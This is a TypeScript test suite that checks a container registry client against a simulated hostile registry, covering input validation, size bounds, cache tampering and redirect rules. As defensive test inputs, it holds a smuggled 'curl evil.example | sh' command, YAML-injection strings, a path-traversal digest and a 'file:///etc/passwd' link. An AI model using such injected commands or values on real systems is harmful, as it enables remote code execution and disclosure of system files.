/**
 * The registry client against a hostile registry on 127.0.0.1: what it answers never reaches a caller unchecked.
 * Digests from headers, index entries and config descriptors must be digests, tags must be tags, cache files
 * read back are checked like answers, tag lists and indexes are bounded in total, a body over its cap is
 * TOO_LARGE (never "unreachable", never replaced by a stale cache entry), and Link and redirect targets follow
 * the registry's own rules for schemes.
 * The hostile server is a misbehaving server answering `/v2/` itself, with content built in memory (so
 * digests verify); Link and redirect tests put a TLS one in front of a real registry.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { analyze } from '../../server/src/core/analysis';
import { DEFAULT_SETTINGS } from '../../server/src/core/settings';
import { pinEdits } from '../../server/src/engine';
import { createRegistryClient } from '../../server/src/registry';
import type { RegistryClient, RegistryClientOptions } from '../../server/src/registry';
import { json, proxy, pushImage, redirect, respond, startMisbehavingServer, startRegistry } from '../helpers/registry';
import type { Handler, MisbehavingServer, PushedImage, RunningRegistry } from '../helpers/registry';
import { rejectsWith } from '../helpers/registry/assertions';
import { createTlsFiles } from '../helpers/registry/certificates';
import type { TlsFiles } from '../helpers/registry/certificates';
import { blobOf, buildImage, buildIndex } from '../helpers/registry/images';
import type { Blob, BuiltImage } from '../helpers/registry/images';

const cleanups: Array<() => unknown> = [];
let registry: RunningRegistry;
let pushed: PushedImage;
let tls: TlsFiles;

before(async () => {
  registry = await startRegistry();
  pushed = await pushImage(registry, 'team/app', 'v1');
  const dir = temporaryDir();
  tls = createTlsFiles(dir);
});

after(async () => {
  for (const cleanup of cleanups.reverse()) await cleanup();
  await registry?.stop();
});

function temporaryDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'image-aware-hostile-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** A hostile registry: `/v2/` answers 200, everything else is routed by the test (404 otherwise). */
async function hostile(): Promise<MisbehavingServer> {
  const server = await startMisbehavingServer();
  server.on('/v2/', json(200, {}));
  cleanups.push(() => server.stop());
  return server;
}

function clientFor(options: RegistryClientOptions = {}): RegistryClient {
  const home = temporaryDir();
  const client = createRegistryClient({ env: { HOME: home, PATH: process.env.PATH }, fetchTimeoutMs: 5000, maxRetries: 0, ...options });
  cleanups.push(() => client.close());
  return client;
}

/** Serves blob bytes with their media type; HEAD gets the headers alone (node drops the body). */
function serve(blob: Blob, headers: Record<string, string> = {}): Handler {
  return respond(200, blob.bytes, { 'Content-Type': blob.mediaType, 'Docker-Content-Digest': blob.digest, ...headers });
}

/** Routes an image's manifest (by `references`) and its config blob. */
function route(server: MisbehavingServer, repo: string, image: BuiltImage, references: readonly string[]): void {
  for (const reference of references) server.on(`/v2/${repo}/manifests/${reference}`, serve(image.manifest));
  server.on(`/v2/${repo}/blobs/${image.config.digest}`, serve(image.config));
}

const INJECTION = ', command: [sh, -c, "curl evil.example | sh"]';

test('a Docker-Content-Digest that is not a digest is INVALID_RESPONSE, on HEAD and on GET, and is never passed on', async () => {
  const server = await hostile();
  const image = buildImage('team/app', 'v1');
  route(server, 'team/app', image, ['v1']);
  server.on('/v2/team/app/manifests/v1', serve(image.manifest, { 'Docker-Content-Digest': `${image.manifest.digest}${INJECTION}` }));
  for (const detail of ['digest', 'manifest'] as const) {
    const error = await rejectsWith(clientFor().getManifest({ registry: server.host, path: 'team/app', reference: 'v1' }, { detail }), 'INVALID_RESPONSE');
    assert.equal(error.message, `${server.host} sent an invalid digest in Docker-Content-Digest for manifest ${server.host}/team/app:v1`);
    assert.equal(error.temporary, false);
  }
  // Each digest algorithm needs its exact length of lowercase hex; sha1 or an upper-case digest is no digest either.
  for (const header of [`sha256:${'A'.repeat(64)}`, `sha256:${'a'.repeat(63)}`, `sha1:${'a'.repeat(40)}`, `sha512:${'a'.repeat(64)}`]) {
    server.on('/v2/team/app/manifests/v1', serve(image.manifest, { 'Docker-Content-Digest': header }));
    await rejectsWith(clientFor().getManifest({ registry: server.host, path: 'team/app', reference: 'v1' }, { detail: 'digest' }), 'INVALID_RESPONSE');
  }
});

test('an index entry whose digest is not a digest is INVALID_RESPONSE, so pinning a platform writes nothing', async () => {
  const server = await hostile();
  const child = buildImage('team/multi', 'v1');
  const index = buildIndex('oci', [{ manifest: child.manifest, platform: child.platform }]);
  // A newline in the digest would end the YAML scalar a pin writes and start a key of the caller's choosing.
  const evil = index.bytes.toString('utf8').replace(child.manifest.digest, `${child.manifest.digest}\\n          command: [sh]`);
  server.on('/v2/team/multi/manifests/v1', serve(blobOf(index.mediaType, Buffer.from(evil))));
  const error = await rejectsWith(
    clientFor().getManifest({ registry: server.host, path: 'team/multi', reference: 'v1' }, { detail: 'body' }),
    'INVALID_RESPONSE',
  );
  assert.match(error.message, new RegExp(`^${server.host} sent an invalid digest in entry 1 of the index `));

  const text = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - image: ${server.host}/team/multi:v1\n`;
  const targets = [{ id: 'pod.yaml', analysis: analyze(text, { maxFileSize: 1 << 20 }) }];
  const report = await pinEdits(targets, clientFor(), { pin: { ...DEFAULT_SETTINGS.pin, platform: 'linux/amd64' } });
  assert.deepEqual(report.files, []);
  assert.match(report.skipped[0].reason, /sent an invalid digest/);
});

test('a config descriptor whose digest is not a digest is INVALID_RESPONSE, and no blob is asked for', async () => {
  const server = await hostile();
  const image = buildImage('team/app', 'v1');
  const manifest = JSON.parse(image.manifest.bytes.toString('utf8')) as { config: { digest: string } };
  manifest.config.digest = 'sha256:../../../../v2/_catalog';
  server.on('/v2/team/app/manifests/v1', serve(blobOf(image.manifest.mediaType, Buffer.from(JSON.stringify(manifest)))));
  const error = await rejectsWith(clientFor().getManifest({ registry: server.host, path: 'team/app', reference: 'v1' }), 'INVALID_RESPONSE');
  assert.match(error.message, /sent an invalid digest in the config descriptor of manifest /);
  assert.deepEqual(
    server.requests.filter((r) => r.path !== '/v2/').map((r) => `${r.method} ${r.path}`),
    ['GET /v2/team/app/manifests/v1'],
  );
});

test('a tag list with an entry that is not a tag is INVALID_RESPONSE', async () => {
  const server = await hostile();
  for (const bad of ['v2\n  command: [sh]', '-v2', 'x'.repeat(129), 42]) {
    server.on('/v2/team/app/tags/list', json(200, { name: 'team/app', tags: ['v1', bad] }));
    const error = await rejectsWith(clientFor().listTags({ registry: server.host, path: 'team/app' }), 'INVALID_RESPONSE');
    assert.equal(error.message, `${server.host} sent an invalid tag in the tags of ${server.host}/team/app`);
  }
});

test('a tampered cache file injects nothing: entries read back are checked like answers and ignored when invalid', async () => {
  const cacheDir = temporaryDir();
  const server = await startMisbehavingServer(proxy(registry));
  cleanups.push(() => server.stop());
  const repo = { registry: server.host, path: 'team/app' };
  const first = clientFor({ cacheDir });
  await first.listTags(repo);
  await first.getManifest({ ...repo, reference: 'v1' }, { detail: 'digest' });
  await first.getManifest({ ...repo, reference: pushed.digest });
  // Every digest and tag in every entry becomes an injection; the key stays, so each file still matches its entry.
  const folder = join(cacheDir, 'v1');
  let tampered = 0;
  for (const file of readdirSync(folder)) {
    const text = readFileSync(join(folder, file), 'utf8');
    const entry = JSON.parse(text) as { key: string; value: unknown };
    const injected = JSON.stringify(`${pushed.digest}${INJECTION}`).slice(1, -1);
    const value = JSON.stringify(entry.value).replaceAll(pushed.digest, injected).replaceAll('"v1"', '"v1\\n  command: [sh]"');
    if (value === JSON.stringify(entry.value)) continue;
    writeFileSync(join(folder, file), JSON.stringify({ ...entry, value: JSON.parse(value) }));
    tampered++;
  }
  assert.equal(tampered, 3, 'the tag list, the tag → digest entry and the manifest entry');

  server.resetRequests();
  const second = clientFor({ cacheDir });
  assert.deepEqual((await second.listTags(repo)).tags, ['v1']);
  const byTag = await second.getManifest({ ...repo, reference: 'v1' }, { detail: 'digest' });
  assert.equal(byTag.digest, pushed.digest);
  assert.equal(byTag.fromCache, false);
  const byDigest = await second.getManifest({ ...repo, reference: pushed.digest });
  assert.equal(byDigest.digest, pushed.digest);
  assert.equal(byDigest.fromCache, false);
  assert.deepEqual(
    server.requests.map((r) => `${r.method} ${r.path}`).filter((r) => r !== 'GET /v2/'),
    [
      'GET /v2/team/app/tags/list',
      'HEAD /v2/team/app/manifests/v1',
      `GET /v2/team/app/manifests/${pushed.digest}`,
      `GET /v2/team/app/blobs/${pushed.configDigest}`,
    ],
  );
});

/** An index of `entries` entries cycling through `children`. */
function bigIndex(children: readonly BuiltImage[], entries: number): Blob {
  return buildIndex(
    'oci',
    Array.from({ length: entries }, (_, i) => ({ manifest: children[i % children.length].manifest, platform: children[i % children.length].platform })),
  );
}

test('an index of 15,000 entries is TOO_LARGE after one request, not 30,000', { timeout: 120_000 }, async () => {
  const server = await hostile();
  const child = buildImage('team/big', 'v1');
  route(server, 'team/big', child, [child.manifest.digest]);
  server.on('/v2/team/big/manifests/v1', serve(bigIndex([child], 15_000)));
  const error = await rejectsWith(clientFor().getManifest({ registry: server.host, path: 'team/big', reference: 'v1' }, { detail: 'platforms' }), 'TOO_LARGE');
  assert.match(error.message, new RegExp(`^${server.host} sent more than 1000 entries for the index `));
  assert.equal(server.requests.filter((r) => r.path !== '/v2/').length, 1);
});

test('duplicate child digests in an index are fetched once', async () => {
  const server = await hostile();
  const amd64 = buildImage('team/dup', 'v1');
  const arm64 = buildImage('team/dup', 'v1', { platform: 'linux/arm64' });
  route(server, 'team/dup', amd64, [amd64.manifest.digest]);
  route(server, 'team/dup', arm64, [arm64.manifest.digest]);
  server.on('/v2/team/dup/manifests/v1', serve(bigIndex([amd64, arm64], 500)));
  const info = await clientFor().getManifest({ registry: server.host, path: 'team/dup', reference: 'v1' }, { detail: 'platforms' });
  assert.equal(info.platforms?.length, 500);
  assert.ok(info.platforms?.every((p) => p.totalSize !== undefined && p.created !== undefined));
  assert.deepEqual(
    server.requests
      .map((r) => r.path)
      .filter((p) => p !== '/v2/')
      .sort(),
    [
      `/v2/team/dup/blobs/${amd64.config.digest}`,
      `/v2/team/dup/blobs/${arm64.config.digest}`,
      `/v2/team/dup/manifests/${amd64.manifest.digest}`,
      `/v2/team/dup/manifests/${arm64.manifest.digest}`,
      '/v2/team/dup/manifests/v1',
    ].sort(),
  );
});

test('an index of 1,000 distinct children: the first 32 are read for sizes and dates, the rest keep what the index says', { timeout: 60_000 }, async () => {
  const server = await hostile();
  const children = Array.from({ length: 1000 }, () => buildImage('team/many', 'v1'));
  for (const child of children) route(server, 'team/many', child, [child.manifest.digest]);
  server.on('/v2/team/many/manifests/v1', serve(bigIndex(children, 1000)));
  const warnings: string[] = [];
  const onWarning = (warning: Error): void => void warnings.push(warning.name);
  process.on('warning', onWarning);
  try {
    const info = await clientFor().getManifest({ registry: server.host, path: 'team/many', reference: 'v1' }, { detail: 'platforms' });
    assert.equal(info.platforms?.length, 1000);
    assert.equal(info.platforms?.filter((p) => p.totalSize !== undefined && p.created !== undefined).length, 32);
    assert.equal(server.requests.filter((r) => r.path !== '/v2/').length, 1 + 2 * 32);
  } finally {
    process.off('warning', onWarning);
  }
  assert.deepEqual(warnings, [], 'no MaxListenersExceededWarning');
});

/** A pager whose page n holds `tagsOf(n)` and links to page n + 1 while `more(n)`. */
function pager(tagsOf: (page: number) => unknown, more: (page: number) => boolean): Handler {
  return (request, response) => {
    const page = Number(new URL(request.url ?? '/', 'http://x').searchParams.get('page') ?? '0');
    const headers: Record<string, string> = { 'Content-Type': 'application/json' };
    if (more(page)) headers.Link = `</v2/team/app/tags/list?n=1000&page=${page + 1}>; rel="next"`;
    response.writeHead(200, headers);
    response.end(typeof tagsOf(page) === 'string' ? (tagsOf(page) as string) : JSON.stringify({ name: 'team/app', tags: tagsOf(page) }));
  };
}

test('tag lists are bounded across pages: an endless pager is TOO_LARGE after 100,000 tags', { timeout: 60_000 }, async () => {
  const server = await hostile();
  server.on(
    '/v2/team/app/tags/list',
    pager(
      (page) => Array.from({ length: 1000 }, (_, i) => `p${page}-${i}`),
      () => true,
    ),
  );
  const error = await rejectsWith(clientFor().listTags({ registry: server.host, path: 'team/app' }), 'TOO_LARGE');
  assert.equal(error.message, `${server.host} sent more than 100000 tags for the tags of ${server.host}/team/app`);
  assert.equal(server.count('/v2/team/app/tags/list'), 101);
});

test('tag lists are bounded across pages: 16 MiB in all, however the pages split them', { timeout: 60_000 }, async () => {
  const server = await hostile();
  const padding = ' '.repeat(6 * 1024 * 1024);
  server.on(
    '/v2/team/app/tags/list',
    pager(
      (page) => `{"name":"team/app",${padding}"tags":["t${page}"]}`,
      (page) => page < 3,
    ),
  );
  const error = await rejectsWith(clientFor().listTags({ registry: server.host, path: 'team/app' }), 'TOO_LARGE');
  assert.equal(error.message, `${server.host} sent more than 16777216 bytes for the tags of ${server.host}/team/app`);
  assert.equal(server.count('/v2/team/app/tags/list'), 3);
});

test('a body over its cap is TOO_LARGE with the registry and the cap, and never replaced by a stale cache entry', async () => {
  const server = await hostile();
  let now = Date.now();
  const client = clientFor({ now: () => now, tagTtlMs: 1000 });
  server.on('/v2/team/app/tags/list', json(200, { name: 'team/app', tags: ['v1'] }));
  assert.deepEqual((await client.listTags({ registry: server.host, path: 'team/app' })).tags, ['v1']);
  now += 5000;
  server.on('/v2/team/app/tags/list', respond(200, `{"tags":["v1"]${' '.repeat(17 * 1024 * 1024)}}`, { 'Content-Type': 'application/json' }));
  const error = await rejectsWith(client.listTags({ registry: server.host, path: 'team/app' }), 'TOO_LARGE');
  assert.equal(error.message, `${server.host} sent more than 16777216 bytes for the tags of ${server.host}/team/app`);
  assert.equal(error.temporary, false);

  const digest = `sha256:${'0'.repeat(64)}`;
  server.on(
    `/v2/team/app/manifests/${digest}`,
    respond(200, Buffer.alloc(5 * 1024 * 1024, 0x20), { 'Content-Type': 'application/vnd.oci.image.manifest.v1+json' }),
  );
  const big = await rejectsWith(client.getManifest({ registry: server.host, path: 'team/app', reference: digest }), 'TOO_LARGE');
  assert.equal(big.message, `${server.host} sent more than 4194304 bytes for manifest ${server.host}/team/app@${digest}`);
});

/** A TLS front of the real registry, trusted through its CA file. */
async function tlsFront(): Promise<MisbehavingServer> {
  const server = await startMisbehavingServer(proxy(registry), tls);
  cleanups.push(() => server.stop());
  return server;
}

test('a Link or a redirect from an HTTPS registry to plain HTTP is refused, even to loopback, and never sent', async () => {
  const secure = await tlsFront();
  const plain = await startMisbehavingServer(proxy(registry));
  cleanups.push(() => plain.stop());
  const client = clientFor({ caFiles: { [secure.host]: tls.caFile } });
  secure.on(
    '/v2/team/app/tags/list',
    respond(200, JSON.stringify({ name: 'team/app', tags: ['v1'] }), { Link: `<${plain.url}/v2/team/app/tags/list?last=v1>; rel="next"` }),
  );
  const link = await rejectsWith(client.listTags({ registry: secure.host, path: 'team/app' }), 'TLS');
  assert.equal(link.message, `${secure.host} linked to ${plain.url}, which is plain HTTP after HTTPS; the link was not followed`);

  secure.on(`/v2/team/app/blobs/${pushed.configDigest}`, redirect(`${plain.url}/v2/team/app/blobs/${pushed.configDigest}`));
  const moved = await rejectsWith(client.getManifest({ registry: secure.host, path: 'team/app', reference: 'v1' }), 'TLS');
  assert.equal(moved.message, `${secure.host} redirected to ${plain.url}, which is plain HTTP after HTTPS; the redirect was not followed`);
  assert.equal(plain.requests.length, 0);
});

test('a Link follows the registry rules: plain HTTP only to hosts that allow it, and only HTTP(S)', async () => {
  const server = await startMisbehavingServer(proxy(registry));
  cleanups.push(() => server.stop());
  const client = clientFor();
  const linking = (target: string): Handler => respond(200, JSON.stringify({ name: 'team/app', tags: ['v1'] }), { Link: `<${target}>; rel="next"` });
  server.on('/v2/team/app/tags/list', linking('http://example.invalid/v2/team/app/tags/list'));
  const plain = await rejectsWith(client.listTags({ registry: server.host, path: 'team/app' }), 'TLS');
  assert.equal(plain.message, `${server.host} linked to http://example.invalid, which is not HTTPS; the link was not followed`);
  server.on('/v2/team/app/tags/list', linking('file:///etc/passwd'));
  const file = await rejectsWith(client.listTags({ registry: server.host, path: 'team/app' }), 'INVALID_RESPONSE');
  assert.equal(file.message, `${server.host} linked to a file: URL, which is not HTTP(S); the link was not followed`);
});

test('tag lists are bounded in pages and in time: more pages than the bound is TOO_LARGE, a listing past its time a TIMEOUT', async () => {
  const server = await hostile();
  server.on(
    '/v2/team/app/tags/list',
    pager(
      (page) => [`p${page}`],
      () => true,
    ),
  );
  const pages = await rejectsWith(clientFor({ tagListLimits: { maxPages: 5 } }).listTags({ registry: server.host, path: 'team/app' }), 'TOO_LARGE');
  assert.equal(pages.message, `${server.host} sent more than 5 pages for the tags of ${server.host}/team/app`);
  assert.equal(server.count('/v2/team/app/tags/list'), 5);

  server.resetRequests();
  // Each reading of the clock moves it on by 50 s: the third page would start past 120 s.
  let time = 0;
  const slow = clientFor({ now: () => (time += 50_000) });
  const late = await rejectsWith(slow.listTags({ registry: server.host, path: 'team/app' }), 'TIMEOUT');
  assert.equal(late.message, `${server.host} took more than 120 s to list the tags of ${server.host}/team/app`);
  assert.ok(server.count('/v2/team/app/tags/list') <= 3);
});
